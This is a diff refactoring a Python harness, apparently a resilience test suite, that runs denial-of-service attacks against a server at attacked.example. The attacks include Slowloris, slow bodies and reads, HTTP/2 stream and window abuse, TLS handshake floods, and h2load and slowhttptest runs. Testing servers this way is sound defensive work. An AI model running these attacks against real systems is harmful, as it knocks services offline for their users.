@@ -5,6 +5,7 @@ what happened to them. The attacks write bytes to sockets, because no client lib
 
 import asyncio
 import collections
+import contextlib
 import ctypes
 import functools
 import itertools
@@ -28,6 +29,14 @@ FILE = "/read"
 PAUSE = 0.2  # Seconds before a connection is opened again.
 
 Target = collections.namedtuple("Target", "host port tls workers admin")
+# All attacks by name, and the names of those with complete requests, for which workers may be launched.
+ATTACKS = {}
+WHOLE_REQUESTS = {"slow-readers-http1", "slow-readers-http2", "many-trailers", "flood", "slowhttptest"}
+
+
+def attack(function):
+    ATTACKS[function.__name__.replace("_", "-")] = function
+    return function
 
 
 def frame(kind, flags, stream, payload=b""):
@@ -174,81 +183,54 @@ def connections(number, port="port", **options):
     """
 
     def attack_of(on_one):
+        @attack
         @functools.wraps(on_one)
-        async def attack(target, counts):
+        async def on_all(target, counts):
             async def once():
                 async with Connection(target.host, getattr(target, port), counts, **options) as c:
                     await on_one(c)
 
             await again(counts, number, once)
 
-        return attack
+        return on_all
 
     return attack_of
 
 
-# HTTP/1.1.
+def sends(name, number, first, then=Connection.drain, **options):
+    """Adds an attack by connections that send this first, and then read, or do something else, until they are closed."""
 
+    async def on_one(c):
+        await c.send(first)
+        await then(c)
 
-@connections(500)
-async def slow_heads(c):
-    """500 connections, each with headers that never end, 12 bytes a second (Slowloris)."""
-    await c.send(b"GET /ping HTTP/1.1\r\nhost: attacked.example\r\n")
-    await c.trickle(b"x-more: 1\r\n", 1)
-
-
-@connections(500)
-async def half_open_http1(c):
-    """500 connections, each with the headers of a POST and no byte of its body."""
-    await c.send(post("/echo", 1_000_000))
-    await c.drain()
-
-
-@connections(500)
-async def slow_bodies_http1(c):
-    """500 connections, each with a POST whose body arrives at one byte a second."""
-    await c.send(post("/echo", 1_000_000))
-    await c.trickle(b"x", 1)
-
-
-@connections(300, receive_buffer=2048)
-async def slow_readers_http1(c):
-    """300 connections that request 20 images each and read nothing."""
-    await c.send(get(IMAGE) * 20)
-    await c.never_read()
-
-
-@connections(3000)
-async def idle_connections(c):
-    """3,000 connections that send nothing."""
-    await c.drain()
-
-
-@connections(500)
-async def large_heads(c):
-    """500 connections, each with 60 KiB of headers that never end."""
-    await c.send(b"GET /ping HTTP/1.1\r\nhost: attacked.example\r\n" + lines(120, 480))
-    await c.drain()
+    on_one.__name__ = name
+    connections(number, **options)(on_one)
 
 
 def lines(number, size):
     return b"".join(b"x-%d: %s\r\n" % (i, b"a" * size) for i in range(number))
 
 
+# HTTP/1.1.
+
+BEGUN = b"GET /ping HTTP/1.1\r\nhost: attacked.example\r\n"
 CHUNKED = b"POST /echo HTTP/1.1\r\nhost: attacked.example\r\ntransfer-encoding: chunked\r\n\r\n"
-
-
-@connections(50)
-async def tiny_chunks(c):
-    """50 connections, each with a POST of chunks of one byte with an extension of 60, without end, that reads its response."""
-    await c.send(CHUNKED)
-    await c.trickle((b"1;x=" + b"a" * 58 + b"\r\nb\r\n") * 200, 0)
-
-
-@connections(50)
-async def many_trailers(c):
-    """50 connections, each with one POST after the other of one byte and 190 trailers."""
-    await c.trickle(CHUNKED + b"1\r\nb\r\n0\r\n" + lines(190, 10) + b"\r\n", 0)
+# Headers that never end, 12 bytes a second (Slowloris).
+sends("slow-heads", 500, BEGUN, lambda c: c.trickle(b"x-more: 1\r\n", 1))
+# The headers of a POST and no byte of its body.
+sends("half-open-http1", 500, post("/echo", 1_000_000))
+# A POST whose body arrives at one byte a second.
+sends("slow-bodies-http1", 500, post("/echo", 1_000_000), lambda c: c.trickle(b"x", 1))
+# Requests for 20 images, of which nothing is read.
+sends("slow-readers-http1", 300, get(IMAGE) * 20, Connection.never_read, receive_buffer=2048)
+sends("idle-connections", 3000, b"")
+# 60 KiB of headers that never end.
+sends("large-heads", 500, BEGUN + lines(120, 480))
+# A POST of chunks of one byte with an extension of 60, without end, whose response is read.
+sends("tiny-chunks", 50, CHUNKED, lambda c: c.trickle((b"1;x=" + b"a" * 58 + b"\r\nb\r\n") * 200, 0))
+# One POST after the other of one byte and 190 trailers.
+sends("many-trailers", 50, b"", lambda c: c.trickle(CHUNKED + b"1\r\nb\r\n0\r\n" + lines(190, 10) + b"\r\n", 0))
 
 
 # HTTP/2.
@@ -278,19 +260,20 @@ def http2(number, *first_settings, read=True, receive_buffer=None):
     return attack_of
 
 
-async def on_each(c, streams, frames):
-    """Sends what `frames` returns for each stream."""
-    await c.send(b"".join(map(frames, streams)))
+async def on_hundred(c, first, seconds, then):
+    """Sends what `first` returns for each of 100 streams, and then at intervals what `then` returns."""
+    await c.send(b"".join(map(first, range(1, 200, 2))))
+    while True:
+        await asyncio.sleep(seconds)
+        for stream in range(1, 200, 2):
+            await c.send(then(stream))
 
 
 async def on_new(c, number, seconds, frames):
     """Sends what `frames` returns for each new stream, this number of them at intervals, without end."""
     for first in range(1, 1 << 30, 2 * number):
-        await on_each(c, range(first, first + 2 * number, 2), frames)
+        await c.send(b"".join(map(frames, range(first, first + 2 * number, 2))))
         await asyncio.sleep(seconds)
-
-
-HUNDRED = range(1, 200, 2)
 
 
 def begun(stream, method, path, *more, end=0):
@@ -304,27 +287,20 @@ def posted(stream):
 @http2(10)
 async def half_open_http2(c):
     """10 connections, each with the headers of 1,000 POSTs and no byte of a body."""
-    for stream in range(1, 2000, 2):
-        await c.send(posted(stream))
+    await c.send(b"".join(map(posted, range(1, 2000, 2))))
     await asyncio.sleep(1e6)
 
 
 @http2(10)
 async def slow_bodies_http2(c):
     """10 connections with 100 POSTs each, whose bodies arrive at one byte a second."""
-    await on_each(c, HUNDRED, posted)
-    while True:
-        await asyncio.sleep(1)
-        await on_each(c, HUNDRED, lambda stream: frame(DATA, 0, stream, b"x"))
+    await on_hundred(c, posted, 1, lambda stream: frame(DATA, 0, stream, b"x"))
 
 
 @http2(10, (INITIAL_WINDOW_SIZE, 0))
 async def slow_readers_http2(c):
     """10 connections that request 100 images each, and open each stream's window by one byte every 10 s."""
-    await on_each(c, HUNDRED, lambda stream: begun(stream, "GET", IMAGE, end=END_STREAM))
-    while True:
-        await asyncio.sleep(10)
-        await on_each(c, HUNDRED, lambda stream: window_update(stream, 1))
+    await on_hundred(c, lambda stream: begun(stream, "GET", IMAGE, end=END_STREAM), 10, lambda stream: window_update(stream, 1))
 
 
 POSTS_OF_NEXT = itertools.cycle([16, 100])  # The window of a connection is 1 MiB.
@@ -343,11 +319,7 @@ async def full_windows(c):
 async def small_parts(c):
     """10 connections with 100 POSTs each. Only 600 of every 64 KiB are body; the rest are frames without effect."""
     filler = frame(PING, ACK, 0, bytes(8)) * 3800
-    await on_each(c, HUNDRED, posted)
-    while True:
-        for stream in HUNDRED:
-            await c.send(frame(DATA, 0, stream, bytes(600)) + filler)
-        await asyncio.sleep(0.01)
+    await on_hundred(c, posted, 0.01, lambda stream: frame(DATA, 0, stream, bytes(600)) + filler)
 
 
 @http2(10)
@@ -414,7 +386,7 @@ async def held_responses(target, counts, rate, size, client):
             while True:
                 opened = [next(numbers) for _ in range(75 - len(live))]
                 live.update(opened)
-                await c.send(b"".join(frame(HEADERS, END_HEADERS | END_STREAM, stream, head("GET", FILE)) for stream in opened))
+                await c.send(b"".join(begun(stream, "GET", FILE, end=END_STREAM) for stream in opened))
                 second = loop.time() + 1
                 while loop.time() < second:
                     try:
@@ -448,16 +420,13 @@ async def held_uploads(target, counts, rate, size, client):
 
 def client_hello():
     """The first message of a TLS handshake. Sent again, it costs the server a new key exchange and a signature, and the client nothing."""
-    context = ssl.create_default_context()
     out = ssl.MemoryBIO()
-    tls = context.wrap_bio(ssl.MemoryBIO(), out, server_hostname="attacked.example")
-    try:
-        tls.do_handshake()
-    except ssl.SSLWantReadError:
-        pass
+    with contextlib.suppress(ssl.SSLWantReadError):
+        ssl.create_default_context().wrap_bio(ssl.MemoryBIO(), out, server_hostname="attacked.example").do_handshake()
     return out.read()
 
 
+@attack
 async def handshakes(target, counts):
     """100 clients that each begin a TLS handshake, wait for the answer, close the connection, and begin again without a pause."""
     hello = client_hello()
@@ -488,11 +457,8 @@ async def worker_port(c):
     await c.drain()
 
 
-@connections(50, "admin")
-async def admin_port(c):
-    """50 connections to the admin port whose request never ends."""
-    await c.send(b"GET /health HTTP/1.1\r\nhost: 127.0.0.1\r\n")
-    await c.trickle(b"x: 1\r\n", 2)
+# Requests that never end.
+sends("admin-port", 50, b"GET /health HTTP/1.1\r\nhost: 127.0.0.1\r\n", lambda c: c.trickle(b"x: 1\r\n", 2), port="admin")
 
 
 # Programs of others.
@@ -509,11 +475,13 @@ async def tool(command, counts):
         await asyncio.sleep(PAUSE)
 
 
+@attack
 async def flood(target, counts):
     """h2load: as many requests as the dispatcher answers, on 20 connections with 20 requests in flight each."""
     await tool([processes.tool("h2load"), "-c", 20, "-m", 20, "-n", 100_000, f"http://{target.host}:{target.port}/ping"], counts)
 
 
+@attack
 async def slowhttptest(target, counts):
     """slowhttptest: slow headers, slow bodies and slow reading, 300 connections each."""
     url = f"http://{target.host}:{target.port}"
@@ -524,18 +492,6 @@ async def slowhttptest(target, counts):
         tool([program, "-B", *common, "-t", "POST", "-u", url + "/echo"], counts),
         tool([program, "-X", *common, "-w", 512, "-y", 1024, "-n", 5, "-z", 32, "-k", 3, "-u", url + IMAGE], counts))
 
-
-# Attacks with complete requests, for which workers may be launched.
-WHOLE_REQUESTS = {"slow-readers-http1", "slow-readers-http2", "many-trailers", "flood", "slowhttptest"}
-
-ATTACKS = {
-    function.__name__.replace("_", "-"): function
-    for function in (
-        slow_heads, half_open_http1, slow_bodies_http1, slow_readers_http1, idle_connections, large_heads, tiny_chunks, many_trailers,
-        half_open_http2, slow_bodies_http2, slow_readers_http2, full_windows, small_parts, rapid_reset, made_you_reset, tunnel_trailers,
-        continuation_flood, header_bomb, frame_floods, handshakes,
-        worker_port, admin_port, flood, slowhttptest)
-}
 
 # Attacks that need a rate and a size, both in bytes, and the number of the client: one that has attacked before is remembered.
 HOLDING = {"held-responses": held_responses, "held-uploads": held_uploads}
@@ -570,10 +526,10 @@ def run(name, target, counts_out):
     begin = HOLDING[kind] if numbers else ATTACKS[kind]
 
     async def main():
-        attack = asyncio.ensure_future(begin(target, counts, *map(int, numbers)))
-        while not attack.done():
-            await asyncio.wait({attack}, timeout=1)
+        task = asyncio.ensure_future(begin(target, counts, *map(int, numbers)))
+        while not task.done():
+            await asyncio.wait({task}, timeout=1)
             counts_out.put((name, dict(counts)))
-        await attack
+        await task
 
     asyncio.run(main())
